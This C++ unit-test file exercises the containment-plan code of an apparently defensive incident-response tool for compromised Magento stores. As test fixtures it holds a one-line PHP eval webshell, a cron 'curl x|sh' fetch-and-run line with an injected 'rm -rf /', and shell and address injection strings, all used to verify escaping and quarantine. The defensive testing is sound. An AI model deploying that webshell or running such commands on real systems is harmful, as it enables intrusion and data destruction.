#include "contain/contain.h"

#include <gtest/gtest.h>

#include <cstdlib>
#include <filesystem>

#include "core/escape.h"
#include "core/json.h"
#include "core/sha256.h"
#include "support/testing.h"

namespace tq::contain {
namespace {

TEST(ContainTest, ValidAddress) {
  struct {
    const char* in;
    bool ok;
  } cases[] = {{"203.0.113.7", true},
               {"2001:db8::1", true},
               {"198.51.100.0/24", true},
               {"10.0.0.1/33", false},
               {"evil;}", false},
               {"1.2.3.4; allow all", false},
               {"", false},
               {"::1/129", false}};
  for (auto& c : cases) EXPECT_EQ(ValidAddress(c.in), c.ok) << c.in;
}

TEST(ContainTest, ShellQuote) {
  EXPECT_EQ(ShellQuote("a b"), "'a b'");
  EXPECT_EQ(ShellQuote("x'$(rm -rf /)'"), "'x'\\''$(rm -rf /)'\\'''");
}

TEST(ContainTest, PlanFromFindings) {
  testing::TempDir tmp;
  CaseInfo info;
  info.name = "t";
  info.platform = "magento";
  auto c = Case::Create(tmp.path() + "/case", info);
  ASSERT_TRUE(c.ok()) << c.status().message();
  ASSERT_TRUE((*c)->Transaction([&](Db& db) -> Status {
                    Finding f;
                    f.kind = "webroot.yara";
                    f.component = "webroot";
                    f.summary = "webshell";
                    f.detail_json = R"({"path":"pub/media/x'.php","sha256":"ab"})";
                    f.dedupe_key = "a";
                    TQ_RETURN_IF_ERROR(UpsertFinding(db, f).status());
                    f.kind = "storedb.rogue_admin";
                    f.component = "storedb";
                    f.detail_json =
                        R"({"table":"admin_user","pk":{"user_id":"4"},"username":"bob"})";
                    f.dedupe_key = "b";
                    return UpsertFinding(db, f).status();
                  })
                  .ok());
  Options o;
  o.allow = {"192.0.2.1"};
  auto plan = BuildPlan(**c, o);
  ASSERT_TRUE(plan.ok()) << plan.status().message();
  bool quarantine = false, account = false;
  for (const Step& s : plan->steps) {
    if (s.category == "quarantine") {
      quarantine = true;
      EXPECT_FALSE(s.warning.empty());  // not collected
    }
    if (s.category == "account") {
      account = true;
      ASSERT_EQ(s.commands.size(), 1u);
      EXPECT_NE(s.commands[0].find("user_id=4"), std::string::npos);
    }
  }
  EXPECT_TRUE(quarantine);
  EXPECT_TRUE(account);
  ASSERT_TRUE((*c)->Transaction([&](Db& db) { return WritePlan(**c, db, *plan); }).ok());
  ASSERT_TRUE((*c)->Transaction([&](Db& db) { return WritePlan(**c, db, *plan); }).ok());
  auto tasks = ListTasks((*c)->db());
  ASSERT_TRUE(tasks.ok());
  EXPECT_EQ(tasks->size(), plan->steps.size());  // re-run refreshes
}

// Host persistence (host.h findings) becomes steps naming the file and line; attacker bytes
// in the command reach contain.sh only quoted and escaped.
TEST(ContainTest, HostPersistenceBecomesSteps) {
  testing::TempDir tmp;
  CaseInfo info;
  info.name = "t";
  auto c = Case::Create(tmp.path() + "/case", info);
  ASSERT_TRUE(c.ok()) << c.status().message();
  ASSERT_TRUE((*c)->Transaction([&](Db& db) -> Status {
                    Finding f;
                    f.component = "host";
                    f.severity = Severity::kCritical;
                    f.kind = "host.cron";
                    f.detail_json = R"({"path":"./var/spool/cron/crontabs/www-data","line":2,)"
                                    R"("schedule":"*/5 * * * *","user":"www-data",)"
                                    "\"command\":\"curl x|sh \\u001b[2J'; rm -rf /\"}";
                    f.dedupe_key = "c";
                    TQ_RETURN_IF_ERROR(UpsertFinding(db, f).status());
                    f.kind = "host.ssh_key";
                    f.severity = Severity::kHigh;
                    f.detail_json = R"({"path":"root/.ssh/authorized_keys","line":3,)"
                                    R"("fingerprint":"SHA256:abc","comment":"x@y"})";
                    f.dedupe_key = "k";
                    TQ_RETURN_IF_ERROR(UpsertFinding(db, f).status());
                    f.kind = "host.shell_history";
                    f.severity = Severity::kMedium;  // context only: no step
                    f.detail_json = R"({"path":"root/.bash_history","line":9,"command":"ls"})";
                    f.dedupe_key = "h";
                    return UpsertFinding(db, f).status();
                  })
                  .ok());
  auto plan = BuildPlan(**c, Options{});
  ASSERT_TRUE(plan.ok()) << plan.status().message();
  int cron = 0, key = 0, history = 0;
  for (const Step& s : plan->steps) {
    if (s.key.rfind("persistence:cron:", 0) == 0) {
      ++cron;
      EXPECT_EQ(s.category, "persistence");
      EXPECT_NE(s.title.find("var/spool/cron/crontabs/www-data line 2"), std::string::npos)
          << s.title;
      ASSERT_EQ(s.commands.size(), 1u);
      EXPECT_EQ(s.commands[0].find('\x1b'), std::string::npos);  // no raw escape byte
      EXPECT_EQ(s.commands[0].rfind("echo '", 0), 0u) << s.commands[0];
    }
    if (s.key == "persistence:ssh:SHA256:abc") {
      ++key;
      EXPECT_NE(s.title.find("Remove the unknown SSH key"), std::string::npos);
    }
    if (s.key.rfind("persistence:history:", 0) == 0) ++history;
  }
  EXPECT_EQ(cron, 1);
  EXPECT_EQ(key, 1);
  EXPECT_EQ(history, 0);
}

TEST(ContainTest, PrintfBytesIsAsciiAndRoundTrips) {
  std::string raw("a b/\x1b[31m'\\\xff\n%\0z", 16);
  std::string enc = PrintfBytes(raw);
  for (char ch : enc) EXPECT_TRUE(ch >= 0x20 && ch < 0x7f && ch != '\'') << enc;
  auto r = testing::Run({"sh", "-c", "printf '%b' \"$1\"", "sh", enc});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(r.out, raw);
}

// True when the text a person reads holds no control byte but newline and is valid UTF-8.
bool Clean(const std::string& text) {
  if (!IsValidUtf8(text)) return false;
  for (char ch : text) {
    auto b = static_cast<unsigned char>(ch);
    if ((b < 0x20 && b != '\n') || b == 0x7f) return false;
  }
  return true;
}

// Two collected web roots and an archive, the same webshell under several names (one made of
// escape bytes and invalid UTF-8): contain.sh --apply moves every copy to its own place, and
// exits 1 when one it should move is still live.
TEST(ContainTest, ScriptQuarantinesEveryCopyByPathAndFailsOnALiveOne) {
  namespace fs = std::filesystem;
  testing::TempDir tmp;
  const std::string shell = "<?php eval($_POST[1]);";
  const std::string sha = Sha256Hex(shell);
  const std::string odd("e\x1b[31m\xff\n.php", 12);
  const std::string live1 = tmp / "live1", live2 = tmp / "live2", live3 = tmp / "live3";
  struct Planted {
    std::string source, rel;
  };
  const std::vector<Planted> planted = {{live1, "pub/a.php"},
                                        {live2, "pub/a.php"},
                                        {live1, "pub/b.php"},
                                        {live1, "pub/" + odd},
                                        {tmp / "site.tar", "./pub/c.php"}};
  auto plant = [&] {
    for (const Planted& p : planted) {
      std::string root = p.source == tmp / "site.tar" ? live3 : p.source;
      fs::create_directories(root + "/pub");
      testing::WriteFile(root + "/" + p.rel, shell);
    }
  };
  plant();
  CaseInfo info;
  info.name = "t";
  info.platform = "magento";
  auto c = Case::Create(tmp / "case", info);
  ASSERT_TRUE(c.ok()) << c.status().message();
  ASSERT_TRUE((*c)->Transaction([&](Db& db) -> Status {
                    auto item = [&](const std::string& source, const std::string& rel,
                                    const char* kind, const std::string& hash) -> Status {
                      TQ_ASSIGN_OR_RETURN(Stmt st,
                                          db.Prepare("INSERT INTO evidence_items(sha256,label,"
                                                     "original_path,kind,size,source,collected_at) "
                                                     "VALUES(?,'webroot',?,?,?,?,1)"));
                      st.Bind(1, hash).BindBlob(2, rel).Bind(3, kind).Bind(4, 22).BindBlob(5,
                                                                                           source);
                      return st.Step().status();
                    };
                    TQ_RETURN_IF_ERROR(item(live1, ".", "dir", ""));
                    TQ_RETURN_IF_ERROR(item(live2, ".", "dir", ""));
                    int n = 0;
                    for (const Planted& p : planted) {
                      TQ_RETURN_IF_ERROR(item(p.source, p.rel, "file", sha));
                      Finding f;
                      f.kind = "webroot.yara";
                      f.component = "webroot";
                      f.summary = "webshell";
                      f.evidence_id = db.LastInsertRowid();
                      JsonWriter w;
                      w.BeginObject().Field("path", p.rel).Field("sha256", sha).EndObject();
                      f.detail_json = w.Take();
                      f.dedupe_key = "f" + std::to_string(++n);
                      TQ_RETURN_IF_ERROR(UpsertFinding(db, f).status());
                    }
                    return Status::Ok();
                  })
                  .ok());
  auto plan = BuildPlan(**c, Options{});
  ASSERT_TRUE(plan.ok()) << plan.status().message();
  int steps = 0;
  for (const Step& s : plan->steps) steps += s.category == "quarantine";
  EXPECT_EQ(steps, 5);  // one per path and root, identical content or not
  ASSERT_TRUE((*c)->Transaction([&](Db& db) { return WritePlan(**c, db, *plan); }).ok());
  std::string script = (*c)->ReportsDir() + "/contain/contain.sh";
  std::string sh = testing::ReadFile(script);
  std::string md = testing::ReadFile((*c)->ReportsDir() + "/contain/plan.md");
  EXPECT_TRUE(Clean(sh));
  EXPECT_TRUE(Clean(md));
  EXPECT_NE(md.find(EscapeTerminal("pub/" + odd)), std::string::npos);
  const std::string q = tmp / "quarantine";
  // The store's own tools (bin/magento through php, the mysql client) are not here: stand-ins
  // on PATH record what the script asked of them, so the steps around the quarantine run.
  const std::string bin = tmp / "bin";
  fs::create_directories(bin);
  for (const char* tool : {"php", "mysql"}) {
    testing::WriteFile(bin + "/" + tool, "#!/bin/sh\necho \"" + std::string(tool) + " $*\" >> \"" +
                                             (tmp / "tools.log") + "\"\n");
    fs::permissions(bin + "/" + tool, fs::perms::owner_all);
  }
  const char* path_env = std::getenv("PATH");
  const std::string path = "PATH=" + bin + ":" + (path_env ? path_env : "/usr/bin:/bin");

  // Dry run: nothing moves.
  auto dry = testing::Run({"env", path, "QUARANTINE=" + q, "ROOT3=" + live3, "sh", script});
  EXPECT_EQ(dry.exit_code, 0) << dry.err;
  EXPECT_TRUE(fs::exists(live1 + "/pub/a.php"));
  // The archive's root is not set: its file stays live, and the script says so and fails.
  auto unset = testing::Run({"env", path, "QUARANTINE=" + q, "sh", script, "--apply"});
  EXPECT_EQ(unset.exit_code, 1) << unset.out << unset.err;
  EXPECT_NE(unset.err.find("LEFT LIVE (its root is not set"), std::string::npos) << unset.err;
  EXPECT_TRUE(fs::exists(live3 + "/pub/c.php"));
  auto apply =
      testing::Run({"env", path, "QUARANTINE=" + q, "ROOT3=" + live3, "sh", script, "--apply"});
  EXPECT_EQ(apply.exit_code, 0) << apply.out << apply.err;
  for (const Planted& p : planted) {
    std::string root = p.source == tmp / "site.tar" ? live3 : p.source;
    std::string rel = p.rel.starts_with("./") ? p.rel.substr(2) : p.rel;
    EXPECT_FALSE(fs::exists(root + "/" + rel)) << EscapeTerminal(rel);
    std::string dest = q + root + "/" + rel;
    if (p.source == tmp / "site.tar") dest = q + live3 + "/" + rel;
    EXPECT_EQ(testing::ReadFile(dest), shell) << EscapeTerminal(dest);
  }
  // The steps around the quarantine ran too (maintenance mode, the sessions' SQL).
  std::string tools = testing::ReadFile(tmp / "tools.log");
  EXPECT_NE(tools.find("php " + live1 + "/bin/magento maintenance:enable"), std::string::npos)
      << tools;
  EXPECT_NE(tools.find("mysql -e DELETE FROM admin_user_session"), std::string::npos) << tools;
  // Planted again: a second destination beside the first, never over it. One copy changed
  // since collection is left in place, and the script fails.
  plant();
  testing::WriteFile(live2 + "/pub/a.php", "<?php // replaced by the owner");
  auto again =
      testing::Run({"env", path, "QUARANTINE=" + q, "ROOT3=" + live3, "sh", script, "--apply"});
  EXPECT_EQ(again.exit_code, 1) << again.out << again.err;
  EXPECT_NE(again.err.find("LEFT LIVE (changed since collection"), std::string::npos);
  EXPECT_TRUE(fs::exists(live2 + "/pub/a.php"));
  EXPECT_FALSE(fs::exists(live1 + "/pub/a.php"));
  EXPECT_EQ(testing::ReadFile(q + live1 + "/pub/a.php.1"), shell);
  EXPECT_EQ(testing::ReadFile(q + live1 + "/pub/a.php"), shell);
}

}  // namespace
}  // namespace tq::contain
